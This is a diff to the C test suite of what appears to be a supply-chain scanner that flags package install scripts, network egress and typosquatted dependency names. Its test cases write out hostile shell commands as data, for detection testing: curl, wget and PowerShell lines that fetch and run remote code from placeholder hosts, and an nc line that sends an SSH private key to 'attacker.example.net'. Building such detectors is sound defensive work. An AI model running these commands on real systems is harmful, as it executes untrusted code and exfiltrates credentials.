@@ -190,40 +190,43 @@ struct script_case {
 	const char *host;     /* on the finding, or NULL */
 	const char *file;     /* on the script, or NULL */
 	const char *says;     /* part of the message */
+	const char *never;    /* not in the message, or NULL */
 };
 
 static const struct script_case script_cases[] = {
-	{"curl -fsSL https://collect.example.net/i | bash", true, "collect.example.net", NULL, "with curl"},
-	{"wget -q -O - evil.example.com/x.sh | sh", true, "evil.example.com", NULL, "with wget"},
-	{"nc attacker.example.net 4444 < ~/.ssh/id_rsa", true, "attacker.example.net", NULL, "with nc"},
+	{"curl -fsSL https://collect.example.net/i | bash", true, "collect.example.net", NULL, "with curl", NULL},
+	{"wget -q -O - evil.example.com/x.sh | sh", true, "evil.example.com", NULL, "with wget", NULL},
+	{"nc attacker.example.net 4444 < ~/.ssh/id_rsa", true, "attacker.example.net", NULL, "with nc", NULL},
 	{"node --eval \"fetch('https://f.example.com/' + process.env.HOME)\"", true, "f.example.com", NULL,
-	 "inline node code that uses the network"},
+	 "inline node code that uses the network", NULL},
 	{"python3 -c 'import urllib.request; urllib.request.urlopen(\"http://py.example.com\")'", true,
-	 "py.example.com", NULL, "inline Python code"},
+	 "py.example.com", NULL, "inline Python code", NULL},
 	{"node -e \"require('net').connect({host: 'sock.example.org', port: 9})\"", true, "sock.example.org", NULL,
-	 "uses the network"},
-	{"sh -c 'curl https://nested.example.com | sh'", true, "nested.example.com", NULL, "runs sh -c"},
-	{"echo $(curl -s https://sub.example.com/x)", true, "sub.example.com", NULL, "with curl"},
-	{"npm run setup", true, "a.example.com", NULL, "runs the npm script \"setup\""},
+	 "uses the network", NULL},
+	{"sh -c 'curl https://nested.example.com | sh'", true, "nested.example.com", NULL, "runs sh -c", NULL},
+	{"echo $(curl -s https://sub.example.com/x)", true, "sub.example.com", NULL, "with curl", NULL},
+	{"echo `curl -s https://tick.example.com`", true, "tick.example.com", NULL, "with curl", NULL},
+	{"npm run setup", true, "a.example.com", NULL, "runs the npm script \"setup\"", NULL},
 	{"powershell -Command \"iwr https://ps.example.com/a.ps1 | iex\"", true, "ps.example.com", NULL,
-	 "PowerShell"},
-	{"prebuild-install || node-gyp rebuild", true, NULL, NULL, "downloads a prebuilt binary"},
-	{"yarn add left-pad", true, NULL, NULL, "installs packages"},
+	 "PowerShell", NULL},
+	{"prebuild-install || node-gyp rebuild", true, NULL, NULL, "downloads a prebuilt binary", NULL},
+	{"yarn add left-pad", true, NULL, NULL, "installs packages", NULL},
 	{"node scripts/helper.js --registry https://reg.example.com", true, "reg.example.com",
-	 "scripts/helper.js", "runs scripts/helper.js"},
-	{"node scripts/post", false, NULL, "scripts/post.js", "runs scripts/post.js with node"},
-	{"sh ./install.sh", false, NULL, "install.sh", "runs install.sh with sh"},
-	{"./install.sh --quiet", false, NULL, "install.sh", "runs install.sh"},
-	{"cross-env NODE_ENV=production node ./scripts/../scripts/post.js", false, NULL, "scripts/post.js",
-	 "with node"},
-	{"node dist/setup.js > /dev/null 2>&1", false, NULL, "dist/setup.js", "(not in the package)"},
-	{"node -e \"require('./scripts/post')\"", false, NULL, "scripts/post.js", "inline node code"},
-	{"node ../../etc/x.js", false, NULL, NULL, "outside the package"},
-	{"node-gyp rebuild", false, NULL, NULL, "builds a native addon"},
-	{"echo see https://docs.example.com for help", false, NULL, NULL, "postinstall runs `echo"},
-	{"node -e \"console.log('thanks')\"", false, NULL, NULL, "runs inline node code"},
-	{"curl http://localhost:3000/ready", false, NULL, NULL, "the local machine"},
-	{"husky install", false, NULL, NULL, "runs husky"},
+	 "scripts/helper.js", "runs scripts/helper.js", NULL},
+	{"node scripts/post", false, NULL, "scripts/post.js", "runs scripts/post.js with node", NULL},
+	{"node -r ./scripts/helper.js scripts/post.js", false, NULL, "scripts/post.js", "with node", NULL},
+	{"sh ./install.sh", false, NULL, "install.sh", "runs install.sh with sh", NULL},
+	{"./install.sh --quiet", false, NULL, "install.sh", "runs install.sh", NULL},
+	{"cross-env NODE_ENV=production node ./scripts/x/../post.js", false, NULL, "scripts/post.js",
+	 "with node", NULL},
+	{"node dist/setup.js > /dev/null 2>&1", false, NULL, "dist/setup.js", "(not in the package)", "runs 1"},
+	{"node -e \"require('./scripts/post')\"", false, NULL, "scripts/post.js", "inline node code", NULL},
+	{"node ../../etc/x.js", false, NULL, NULL, "outside the package", NULL},
+	{"node-gyp rebuild", false, NULL, NULL, "builds a native addon", NULL},
+	{"echo see https://docs.example.com for help", false, NULL, NULL, "postinstall runs `echo", NULL},
+	{"node -e \"console.log('thanks')\"", false, NULL, NULL, "runs inline node code", NULL},
+	{"curl http://localhost:3000/ready", false, NULL, NULL, "the local machine", NULL},
+	{"husky install", false, NULL, NULL, "runs husky", NULL},
 };
 
 static void test_script_commands(void **state)
@@ -265,6 +268,8 @@ static void test_script_commands(void **state)
 		else
 			assert_null(s->file);
 		assert_non_null(strstr(f->message, c->says));
+		if (c->never)
+			assert_null(strstr(f->message, c->never));
 		report_free(r);
 	}
 }
@@ -326,27 +331,28 @@ static void test_bins(void **state)
 struct squat_case {
 	const char *dependency;
 	const char *imitates;  /* NULL: must not be flagged */
+	const char *how;       /* part of the message saying how */
 };
 
 static const struct squat_case squat_cases[] = {
-	{"expresss", "express"},
-	{"axois", "axios"},
-	{"lodahs", "lodash"},
-	{"@evil/express", "express"},
-	{"cross_env", "cross-env"},
-	{"crossenv", "cross-env"},
-	{"rnoment", "moment"},
-	{"modelcontextprotocol-sdk", "@modelcontextprotocol/sdk"},
-	{"@modelcontextprotocoI/sdk", "@modelcontextprotocol/sdk"},
-	{"dotenw", "dotenv"},
-	{"express", NULL},
-	{"@modelcontextprotocol/sdk", NULL},
-	{"zod", NULL},
-	{"@types/node", NULL},
-	{"@types/expresss", NULL},  /* only DefinitelyTyped publishes under @types */
-	{"zot", NULL},              /* too short to judge by one edit */
-	{"safer-buffer", NULL},     /* a real neighbour of safe-buffer, listed */
-	{"my-weather-lib", NULL},
+	{"expresss", "express", "one character added"},
+	{"axois", "axios", "swapped"},
+	{"lodahs", "lodash", "swapped"},
+	{"@evil/express", "express", "a popular name under another scope"},
+	{"cross_env", "cross-env", "separators changed"},
+	{"crossenv", "cross-env", "separators changed"},
+	{"rnoment", "moment", "look-alike characters"},
+	{"modelcontextprotocol-sdk", "@modelcontextprotocol/sdk", "without its scope"},
+	{"@modelcontextprotocoI/sdk", "@modelcontextprotocol/sdk", "one character"},
+	{"dotenw", "dotenv", "one character"},
+	{"express", NULL, NULL},
+	{"@modelcontextprotocol/sdk", NULL, NULL},
+	{"zod", NULL, NULL},
+	{"@types/node", NULL, NULL},
+	{"@types/expresss", NULL, NULL},  /* only DefinitelyTyped publishes under @types */
+	{"zot", NULL, NULL},              /* too short to judge by one edit */
+	{"safer-buffer", NULL, NULL},     /* a real neighbour of safe-buffer, listed */
+	{"my-weather-lib", NULL, NULL},
 };
 
 static void test_typosquats(void **state)
@@ -384,6 +390,7 @@ static void test_typosquats(void **state)
 		assert_non_null(f);
 		snprintf(part, sizeof part, "the popular package \"%s\"", c->imitates);
 		assert_non_null(strstr(f->message, part));
+		assert_non_null(strstr(f->message, c->how));
 		assert_int_equal(f->severity, SEV_HIGH);
 		assert_string_equal(f->file, "package.json");
 		assert_true(f->line > 1);
@@ -476,7 +483,7 @@ static void test_python_requirements_and_metadata(void **state)
 			     "Requires-Dist: pytest; extra == \"test\"\n\nRequires-Dist: in-the-description\n");
 	put(dir, "setup.cfg", "[metadata]\nname = tool-mcp\n\n[options]\ninstall_requires =\n    colourama\n"
 			      "    anyio>=4\n\n[options.entry_points]\nconsole_scripts =\n    tool-mcp = tool.cli:main\n");
-	put(dir, "requirements.txt", "click==8.1.7 \\\n    --hash=sha256:00\nanyio>=4\n");
+	put(dir, "requirements.txt", "click==8.1.7 \\\n    --hash=sha256:00\nanyio>=4  # ==4.4 later\n");
 	struct report *r = check(dir, NULL, false);
 	assert_string_equal(r->package->name, "tool-mcp");
 	assert_string_equal(r->package->version, "2.0");
@@ -564,6 +571,25 @@ static void test_invalid_manifest(void **state)
 	r = check(dir, NULL, false);
 	assert_non_null(inc = incomplete_for(r, "package.json"));
 	assert_non_null(strstr(inc->reason, "not a JSON object"));
+	report_free(r);
+
+	/* a folder where the manifest should be, and a manifest linking out of the package */
+	new_folder(dir, sizeof dir);
+	put(dir, "package.json/x", "");
+	r = check(dir, NULL, false);
+	assert_non_null(inc = incomplete_for(r, "package.json"));
+	assert_string_equal(inc->reason, "not a regular file: not read");
+	report_free(r);
+	new_folder(dir, sizeof dir);
+	char link[160], target[160];
+	snprintf(target, sizeof target, "%s/outside.json", top);
+	put(top, "outside.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"curl https://o.example.com\"}}");
+	snprintf(link, sizeof link, "%s/package.json", dir);
+	assert_int_equal(symlink(target, link), 0);
+	r = check(dir, NULL, false);
+	assert_non_null(inc = incomplete_for(r, "package.json"));
+	assert_string_equal(inc->reason, "links outside the package: not read");
+	assert_int_equal(r->findings.len, 0);
 	report_free(r);
 
 	/* no manifest at all: nothing known, nothing wrong */
@@ -725,11 +751,13 @@ static void test_finish(void **state)
 	struct report *r = check(dir, NULL, false);
 	assert_non_null(post = find(r, "install-script", "postinstall runs"));
 	assert_non_null(prep = find(r, "install-script", "prepare runs"));
-	add_evidence(r, "localhost", "static", "scripts/post.js", NULL);  /* not egress */
+	add_evidence(r, "localhost", "static", "scripts/post.js", NULL);    /* not egress */
 	add_evidence(r, "t.example.net", "static", "src/index.js", NULL);  /* another file */
+	add_evidence(r, "t.example.net", "dynamic", NULL, "tool:forecast"); /* the server's run */
 	metadata_finish(r);
 	assert_false(script(r, "postinstall")->egress);
 	assert_int_equal(post->severity, SEV_MEDIUM);
+	assert_false(script(r, "prepare")->egress);
 
 	add_evidence(r, "t.example.net", "static", "scripts/post.js", NULL);
 	metadata_finish(r);
@@ -740,13 +768,31 @@ static void test_finish(void **state)
 	assert_string_equal(post->chain.items[0], "scripts/post.js:3: https.get -> t.example.net");
 	assert_false(script(r, "prepare")->egress);
 	assert_int_equal(prep->severity, SEV_MEDIUM);
+	report_free(r);
 
-	/* the install run contacted a host: every install script ran in it */
-	add_evidence(r, "run.example.org", "dynamic", NULL, "install");
+	/* a run of one script names it; a run of them all raises them all */
+	r = check(dir, NULL, false);
+	assert_non_null(post = find(r, "install-script", "postinstall runs"));
+	assert_non_null(prep = find(r, "install-script", "prepare runs"));
+	add_evidence(r, "run.example.org", "dynamic", NULL, "install:prepare");
 	metadata_finish(r);
 	assert_true(script(r, "prepare")->egress);
 	assert_int_equal(prep->severity, SEV_HIGH);
 	assert_string_equal(prep->host, "run.example.org");
+	assert_false(script(r, "postinstall")->egress);
+	assert_int_equal(post->severity, SEV_MEDIUM);
+	report_free(r);
+
+	r = check(dir, NULL, false);
+	assert_non_null(post = find(r, "install-script", "postinstall runs"));
+	add_evidence(r, "run.example.org", "dynamic", NULL, "install");
+	metadata_finish(r);
+	for (size_t i = 0; i < r->package->scripts.len; i++)
+		assert_true(r->package->scripts.items[i].egress);
+	assert_int_equal(post->severity, SEV_HIGH);
+	assert_string_equal(post->host, "run.example.org");
+	assert_int_equal(post->chain.len, 1);
+	assert_non_null(strstr(post->chain.items[0], "install run: "));
 	report_free(r);
 }
 
